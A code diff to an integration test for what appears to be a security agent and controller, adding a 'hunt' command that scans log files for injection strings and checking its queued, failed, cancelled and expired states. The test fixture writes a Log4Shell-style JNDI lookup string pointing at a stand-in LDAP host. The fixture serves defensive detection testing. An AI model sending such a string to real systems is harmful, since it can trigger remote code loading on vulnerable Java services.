@@ -1,4 +1,4 @@
-import { mkdtemp, rm } from 'node:fs/promises';
+import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import Database from 'better-sqlite3';
@@ -10,8 +10,7 @@ import { eventually } from './support/ports';
 
 // The contract between the two ends, with no fake on either side: the built controller
 // (SQLite) and the bundled agent process (its real CommandExecutor and AgentDaemon over real
-// gRPC), every kind (scan is the only one so far: add each new kind here) through every state
-// a command can end in.
+// gRPC), every kind (scan, hunt: add each new kind here) through every state a command can end in.
 
 jest.setTimeout(180_000);
 
@@ -34,6 +33,7 @@ describe('command contract: real agent executor against the real controller', ()
   let hostId: string;
   let srv: string;
   let bulk: string;
+  let logs: string;
 
   beforeAll(async () => {
     ensureBuilt();
@@ -45,6 +45,9 @@ describe('command contract: real agent executor against the real controller', ()
     await writeWar(path.join(srv, 'shop/app.war'), '2.14.1');
     bulk = path.join(agent.dir, 'bulk');
     await writeBrokenJars(bulk, 20_000);
+    logs = path.join(agent.dir, 'logs');
+    await mkdir(logs, { recursive: true });
+    await writeFile(path.join(logs, 'app.log'), 'ok\nua=${jndi:ldap://contract.example:1389/a}\n');
   });
 
   afterAll(async () => {
@@ -147,5 +150,79 @@ describe('command contract: real agent executor against the real controller', ()
     expect(await ended(command.id)).toMatchObject({ state: 'expired' });
     expect(agentLogged(command.id, 'scan started')).toBe(false);
     expect(agent.log).not.toContain('control stream ended');
+  });
+
+  const hunt = (body: object) => controller.api<CommandDto>('POST', `/hosts/${hostId}/hunts`, body);
+  /** Writes a stored command's row while the agent is away (what the API would refuse). */
+  const tamper = (sql: string, ...params: unknown[]) => {
+    const db = new Database(path.join(work, 'controller.sqlite'));
+    try {
+      db.prepare(sql).run(...params);
+    } finally {
+      db.close();
+    }
+  };
+
+  it('hunt: queued -> delivered -> started -> succeeded, its hit stored', async () => {
+    // The daemon runs since the scan tests.
+    const command = await hunt({ paths: [logs] });
+    expect(command).toMatchObject({ kind: 'hunt' });
+    const done = await ended(command.id);
+    expect(done).toMatchObject({ state: 'succeeded', totalChunks: 1 });
+    expect(Object.keys(done.timestamps).sort()).toEqual(
+      ['queued', 'delivered', 'started', 'succeeded'].sort(),
+    );
+    const hits = await eventually(`the hit of ${command.id}`, async () => {
+      const page = await controller.api<{
+        total: number;
+        items: Array<{ line: number; decoded: string }>;
+      }>('GET', `/hunt-hits?commandId=${command.id}`);
+      return page.total > 0 ? page.items : undefined;
+    });
+    expect(hits).toEqual([
+      expect.objectContaining({ line: 2, decoded: '${jndi:ldap://contract.example:1389/a}' }),
+    ]);
+  });
+
+  it('hunt: failed, with the reason, when the agent refuses its parameters', async () => {
+    await agent.stop();
+    const command = await hunt({ paths: [logs] });
+    tamper(
+      'UPDATE commands SET payload = ? WHERE id = ?',
+      JSON.stringify({ paths: ['relative/logs'] }),
+      command.id,
+    );
+    agent.startDaemon();
+    const done = await ended(command.id);
+    expect(done).toMatchObject({ state: 'failed' });
+    expect(done.message).toContain('path "relative/logs" is not absolute');
+  });
+
+  it('hunt: cancelled through REST while queued, and never run', async () => {
+    await agent.stop();
+    const command = await hunt({ paths: [logs] });
+    expect(command.deliveredTo).toBe('not-connected');
+    expect(
+      await controller.api<CommandDto>('POST', `/commands/${command.id}/cancel`),
+    ).toMatchObject({ state: 'cancelled' });
+    agent.log = '';
+    agent.startDaemon();
+    const after = await hunt({ paths: [logs] });
+    expect(await ended(after.id)).toMatchObject({ state: 'succeeded' });
+    expect(agent.log).not.toContain(command.id);
+  });
+
+  it('hunt: expired when its expiry passed before it could be delivered', async () => {
+    await agent.stop();
+    const command = await hunt({ paths: [logs] });
+    tamper(
+      'UPDATE commands SET expires_at = ? WHERE id = ?',
+      new Date(Date.now() - 3_600_000).toISOString(),
+      command.id,
+    );
+    agent.log = '';
+    agent.startDaemon();
+    expect(await ended(command.id)).toMatchObject({ state: 'expired' });
+    expect(agentLogged(command.id, 'hunt started')).toBe(false);
   });
 });
